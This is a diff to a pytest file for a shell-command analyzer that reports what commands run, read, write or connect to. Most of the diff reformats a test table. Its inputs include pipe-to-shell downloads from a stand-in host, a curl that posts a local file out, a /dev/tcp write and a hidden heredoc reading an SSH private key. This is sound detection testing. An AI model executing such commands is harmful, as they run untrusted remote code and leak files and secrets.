@@ -59,7 +59,10 @@ TABLE = [
     ("bash -euo pipefail -c 'a'", ["run bash -euo pipefail -c a", "run a"]),
     ("bash s.sh a", ["run bash s.sh a", f"read {P}/s.sh"]),
     ("bash -n -c 'rm x'", ["run bash -n -c rm x"]),
-    ("curl https://h.example/x | sh", ["run curl https://h.example/x", "connect h.example:443", "run sh", "dark pipe-to-shell"]),
+    (
+        "curl https://h.example/x | sh",
+        ["run curl https://h.example/x", "connect h.example:443", "run sh", "dark pipe-to-shell"],
+    ),
     ("echo date | sh", ["run echo date", "run sh", "run date"]),
     ("echo ZGF0ZQ== | base64 -d | bash", ["run echo ZGF0ZQ==", "run base64 -d", "run bash", "run date"]),
     ("eval date -u", ["run eval date -u", "run date -u"]),
@@ -82,8 +85,10 @@ TABLE = [
     ("tar xf o.tgz -C d", ["run tar xf o.tgz -C d", f"read {P}/o.tgz", f"write {P}/d/"]),
     ("git -C d add f", ["run git -C d add f", f"list {P}/d", f"read {P}/d/f"]),
     ("git commit -m 'a b'", ["run git commit -m a b"]),
-    ("curl -o f -d @b https://h.example:8080/", ["run curl -o f -d @b https://h.example:8080/", f"write {P}/f", f"read {P}/b", "connect h.example:8080 sends"]),
-    ("find d -name '*.c' -exec cat {} +", ["run find d -name *.c -exec cat {} +", f"list {P}/d/", "run cat d/**/*.c", f"read {P}/d/**/*.c?"]),
+    ("curl -o f -d @b https://h.example:8080/", ["run curl -o f -d @b https://h.example:8080/",
+        f"write {P}/f", f"read {P}/b", "connect h.example:8080 sends"]),
+    ("find d -name '*.c' -exec cat {} +", [
+        "run find d -name *.c -exec cat {} +", f"list {P}/d/", "run cat d/**/*.c", f"read {P}/d/**/*.c?"]),
     ("echo x > /dev/tcp/h.example/80", ["connect h.example:80 sends", "run echo x"]),
     ("cat $D/x", ["run cat /opt/x", "read /opt/x"]),
 ]  # fmt: skip
@@ -139,3 +144,18 @@ def test_home_is_the_callers() -> None:
 
 def test_words_in_other_scripts_survive() -> None:
     assert told("cat 'grüße ☃' ü$X") == ["run cat grüße ☃ ü**", f"read {PROJECT}/grüße ☃", f"read {PROJECT}/ü**?"]
+
+
+@pytest.mark.parametrize("blank", ["\u00a0", "\u2003", "\u3000", "\x0b", "\x0c", "\r", "\x01"])
+def test_only_blanks_and_tabs_are_blanks(blank: str) -> None:
+    assert told(f"echo a{blank}#b; cat /etc/hosts") == [f"run echo a{blank}#b", "run cat /etc/hosts", "read /etc/hosts"]
+
+
+def test_code_points_beyond_the_scanners_table_are_harmless() -> None:
+    for code in range(0x80, 0x110000, 0x3FD):
+        if not 0xD800 <= code < 0xE000:
+            assert told(f"cat a{{{chr(code)}b}} {{{chr(code)}}}")[0].startswith("run cat")
+
+
+def test_a_heredoc_whose_end_cannot_be_told_is_dark() -> None:
+    assert "dark hidden" in told("cat <<\u00e9\n\u00ea\n'\n\u00e9\ncat ~/.ssh/id_rsa\n'")
